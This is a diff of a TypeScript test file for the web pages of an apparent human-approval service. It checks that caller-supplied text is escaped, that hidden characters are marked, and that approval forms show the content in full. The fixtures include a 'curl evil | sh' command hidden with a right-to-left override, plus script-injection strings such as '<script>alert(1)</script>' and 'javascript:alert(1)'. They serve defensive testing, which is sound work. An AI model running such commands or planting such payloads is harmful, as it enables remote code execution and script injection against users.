@@ -1,27 +1,33 @@
 import { createHash } from 'node:crypto'
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { blobPage, page } from '../../adapters/web/render.js'
+import { contentPage, page } from '../../adapters/web/render.js'
 import type { PageState } from '../../src/adapter/page.js'
 import { describeAnswer } from '../../src/compiler/describe.js'
 import type { ReplySchema } from '../../src/compiler/reply-schema.js'
 import type { Display } from '../../src/request/display.js'
+import { showing } from '../request/content/shown.js'
 import {
   approval,
   bulky,
   ENDINGS,
+  FORM,
   HANDLE,
   HASH,
+  notHanded,
   OPTIONS,
   type Open,
   open,
+  type PlainKind,
+  peopled,
   question,
   refused,
   review,
   SCHEMAS,
+  stored,
 } from './samples.js'
 
-const KINDS = Object.keys(SCHEMAS) as ReplySchema['kind'][]
+const KINDS = Object.keys(SCHEMAS) as PlainKind[]
 const body = (state: PageState): string => page(state, 200).body
 const escaped = (text: string): string =>
   text
@@ -45,7 +51,7 @@ describe('a caller’s words on the page', () => {
   type Told = { readonly state: Open; readonly strings: readonly string[] }
 
   /** Every string a caller or a stranger can set, each with its own ending so that each is looked for. */
-  function hostile(text: string, kind: ReplySchema['kind']): Told {
+  function hostile(text: string, kind: PlainKind): Told {
     const strings: string[] = []
     const said = (where: string): string => {
       const words = `<${text}${where}`
@@ -65,10 +71,8 @@ describe('a caller’s words on the page', () => {
       handles: [{ name: said('name'), handle: said('handle'), fixed: false }],
     }
     const again = {
-      message: said('message'),
-      read: said('read'),
-      accepted: said('accepted'),
-      typed: said('typed'),
+      refused: { message: said('message'), read: said('read'), accepted: said('accepted') },
+      typed: { reply: said('typed'), fields: {}, all: null },
     }
     const shown = 'options' in schema || kind === 'yes_no' ? ['typed'] : []
     const absent = 'options' in schema ? shown : [...shown, 'value0', 'value1', 'label0', 'label1']
@@ -151,7 +155,22 @@ describe('what the page tells', () => {
     }
   })
 
-  it.each<[ReplySchema['kind'], readonly string[]]>([
+  it('shows how urgent it is, what comes while nobody answers, who else is asked, and their own time of day', () => {
+    const html = visible(body(peopled(question())))
+    for (const words of [
+      '<span class="pill">Urgent question</span>',
+      '<li>10 min after it was asked: a reminder</li>',
+      '<li>1 h 30 min after it was asked: manager is asked too</li>',
+      '<li>1 d after it was asked: those asked are reached by their next channel too</li>',
+      '<p>It was handed to you by Release owner, and is yours to answer.</p>',
+      '<p>Also asked: Second in place of Third, Fourth. The first answer that decides counts.</p>',
+      '14:00:05 UTC</time><br><span id="local">Tue 17 Feb 15:00 Europe/Berlin</span>',
+    ]) {
+      expect(html).toContain(words)
+    }
+  })
+
+  it.each<[PlainKind, readonly string[]]>([
     ['yes_no', ['Choose YES or NO.', '>YES<', '>NO<']],
     [
       'choice',
@@ -228,14 +247,13 @@ describe('what a request points to', () => {
 
   const PROMPT: Display = { ...approval, headline: 'Approve USE_TOOL', action: 'USE_TOOL' }
   const COMMAND = `{\n  "command": "curl <b>evil</b> | sh\u202e"\n}`
-  const contents = new Map(PROMPT.handles.map(({ handle }) => [handle, new TextEncoder().encode(COMMAND)]))
 
   it('stands on the page itself, whole and before the form, where what is decided is in the content alone', () => {
-    const html = body({ ...open(PROMPT), contents })
-    const text = COMMAND.replaceAll('"', '&quot;').replace('<b>', '&lt;b&gt;').replace('</b>', '&lt;/b&gt;')
-    expect(html.split(text.replace('\u202e', '<mark>U+202E</mark>'))).toHaveLength(3)
+    const html = body(open(showing(PROMPT, [COMMAND, COMMAND])))
+    const line = '│   &quot;command&quot;: &quot;curl &lt;b&gt;evil&lt;/b&gt; | sh⟨U+202E⟩&quot;'
+    expect(html.split(line)).toHaveLength(3)
     expect(html.lastIndexOf('curl')).toBeLessThan(html.indexOf('<form'))
-    expect(html).toContain('The caller’s content, whole: ')
+    expect(html).toContain('The caller’s content: 41 characters; holds characters that are not seen')
   })
 
   it('leaves no form where the lane does not hold it: nobody decides on what they cannot see', () => {
@@ -252,6 +270,78 @@ describe('what a request points to', () => {
     const handle = 'javascript:alert(1)'
     const display = { ...question(), handles: [{ name: null, handle, fixed: true }] }
     expect(body({ ...open(display), openable: [handle] })).not.toContain('href=')
+  })
+})
+
+describe('a form of decisions', () => {
+  const html = visible(body(open(question(FORM))))
+  /** The part of the page about one decision. */
+  const part = (id: string, page = html): string => page.split(`id="at-${id}"`)[1]?.split('</li>')[0] ?? ''
+
+  it('has a control for each, by its type, and nothing chosen: a default is named and never preselected', () => {
+    expect(part('ship')).toMatch(/type="radio" name="d.ship" value="YES".*value="NO"/s)
+    expect(part('ring')).toMatch(/type="radio" name="d.ring" value="staff"/)
+    expect(part('areas')).toMatch(/type="checkbox" name="d.areas" value="canary"/)
+    for (const id of ['note', 'share', 'when'])
+      expect(part(id)).toMatch(new RegExp(`<input[^>]*name="d.${id}"`))
+    expect(part('ship')).toContain('the caller’s default is NO')
+    expect(part('ring')).toContain('the caller’s default is staff')
+    expect(html).not.toMatch(/\s(checked|selected)\b/)
+  })
+
+  it('shows what surrounds it: context, what waits, descriptions, options with theirs, the deadline and the default', () => {
+    for (const words of ['The release is built.', 'The release job', 'T-7', 'build-9', 'Billing'])
+      expect(html).toContain(words)
+    expect(part('ship')).toContain('To the first ring.\nThe others follow a day later.')
+    expect(part('ring')).toContain('Everybody with an account of ours')
+    expect(html).toContain('17 Feb 2026, 14:00:05 UTC')
+    expect(html).toContain('<strong>HALT</strong>')
+  })
+
+  it('says which are required, what a text must fit, and asks a comment where one is declared', () => {
+    expect(part('ship')).toContain('Required')
+    expect(part('notify')).toContain('Optional')
+    expect(part('note')).toContain('It must fit the pattern <code>^[A-Z]</code>')
+    expect(part('ship')).toMatch(/Comment, needed with a NO.*it is not a condition.*name="c.ship"/s)
+    expect(part('ring')).not.toContain('name="c.ring"')
+  })
+
+  it('offers to choose all approvals alike where there are two, and no other decision ever', () => {
+    expect(html.match(/name="all" value="(yes|no)"/g)).toHaveLength(2)
+    const one = { ...open(question(FORM)), settled: ['ship'] }
+    expect(body(one)).not.toContain('name="all"')
+    const typed = { reply: 'ring beta', fields: {}, all: 'yes' } as const
+    const chosen = body({ ...open(question(FORM)), typed }).match(/name="([^"]+)" value="([^"]+)" checked/g)
+    expect(chosen).toEqual([
+      'name="d.ship" value="YES" checked',
+      'name="d.notify" value="YES" checked',
+      'name="d.ring" value="beta" checked',
+    ])
+  })
+
+  it('names each line that was not understood, marks its decision, and shows the words as words', () => {
+    const lines = [
+      {
+        decision_id: 'share',
+        reason: 'reply_not_in_schema',
+        read: 'share <b>',
+        accepted: 'For share: a number.',
+      },
+      {
+        decision_id: null,
+        reason: 'reply_not_in_schema',
+        read: 'd9 <i>',
+        accepted: 'The ids are ship, ring.',
+      },
+    ] as const
+    const state = open(question(FORM), refused('ship yes\nshare <b>\nd9 <i>'))
+    const again = visible(body({ ...state, refused: { message: 'No.', read: '', accepted: '', lines } }))
+    expect(again).toContain('<a href="#at-share">“share &lt;b&gt;”</a>')
+    expect(again).toContain('“d9 &lt;i&gt;” <span class="hint">The ids are ship, ring.</span>')
+    expect(again.match(/class="decision faulty" id="at-(\w+)"/g)).toEqual([
+      'class="decision faulty" id="at-share"',
+    ])
+    expect(part('ship', again)).toMatch(/value="YES" checked/)
   })
 })
 
@@ -279,6 +369,27 @@ describe('the form', () => {
     expect(html).toContain('<dd>“see &lt;b&gt;www.example.org&lt;/b&gt;”</dd>')
     expect(html).toContain('<dd>YES or NO</dd>')
     expect(html).toMatch(/aria-describedby="accepted refusal"/)
+  })
+
+  it('offers those who could answer in their place, none of them chosen, in a form of its own', () => {
+    const html = body(peopled(question(SCHEMAS.yes_no)))
+    const hands = html.split('<details')[1] ?? ''
+    expect(hands).toContain(
+      '<option value="">Choose one</option><option value="deputy">Deputy (deputy)</option>',
+    )
+    expect(hands).toContain('>Night &lt;shift&gt; &amp; co (night-shift)</option>')
+    expect(hands).not.toContain('selected')
+    expect(hands).toMatch(/name="code"[\s\S]*name="csrf" value="csrf-1"/)
+    expect(html.split('<form')).toHaveLength(3)
+    for (const closed of [{ csrf: null }, { elsewhere: 'slack' }] as const)
+      expect(body({ ...peopled(question(SCHEMAS.yes_no)), ...closed })).not.toContain('name="delegate"')
+    expect(body(open(question(SCHEMAS.yes_no)))).not.toContain('name="delegate"')
+  })
+
+  it('does not take the words of handing on for a text that was typed', () => {
+    const html = body(peopled(question(SCHEMAS.text), notHanded))
+    expect(html).toContain('id="reply" name="reply" type="text" value=""')
+    expect(html).toContain('<details class="sheet" id="hand" open>')
   })
 
   it('keeps the ticks the person made, by value or by letter', () => {
@@ -377,8 +488,7 @@ describe('the page’s policy', () => {
 })
 
 describe('a caller’s stored content', () => {
-  const shown = (text: string): string =>
-    blobPage(HASH, new TextEncoder().encode(text), 'release <agent>').body
+  const shown = (text: string): string => contentPage(stored(text), 'release <agent>').body
 
   it('is escaped plain text, framed as the caller’s', () => {
     const html = shown('<script>alert(1)</script> & "more"')
@@ -389,7 +499,7 @@ describe('a caller’s stored content', () => {
   })
 
   it('is sent with a policy under which it could neither run nor send', () => {
-    const policy = blobPage(HASH, Uint8Array.of(), 'a').headers['content-security-policy']?.split('; ')
+    const policy = contentPage(stored(''), 'a').headers['content-security-policy']?.split('; ')
     expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']))
     expect(policy?.some(rule => rule.startsWith('script-src'))).toBe(false)
   })
@@ -413,18 +523,20 @@ describe('a caller’s stored content', () => {
     ['\ufffc', 'U+FFFC'],
   ])('names a character that would hide or turn the text: %j', (character, name) => {
     const html = shown(`a${character}b`)
-    expect(html).toContain(`a<mark>${name}</mark>b`)
+    expect(html).toContain(`a⟨${name}⟩b`)
     expect(visible(html)).not.toContain(character === '\r' ? 'a\r' : character)
   })
 
   it('keeps its lines, its tabs and its first empty line', () => {
-    expect(shown('\n\tone\r\ntwo')).toContain('<pre class="content">\n\n\tone\ntwo</pre>')
+    expect(shown('\n\tone\r\ntwo')).toContain(
+      '<pre class="content">\n<span class="plain">│ </span>\n<span class="plain">│ \tone</span>\n<span class="plain">│ two</span>\n</pre>',
+    )
   })
 
   it('says so when it is not text', () => {
-    const html = blobPage(HASH, Uint8Array.of(0x41, 0xff), 'a').body
-    expect(html).toContain('Not text in UTF-8')
-    expect(html).toContain('A\ufffd')
+    const html = contentPage(stored(null), 'a').body
+    expect(html).toContain('2 bytes that are no text')
+    expect(html).not.toContain('<pre')
   })
 })
 
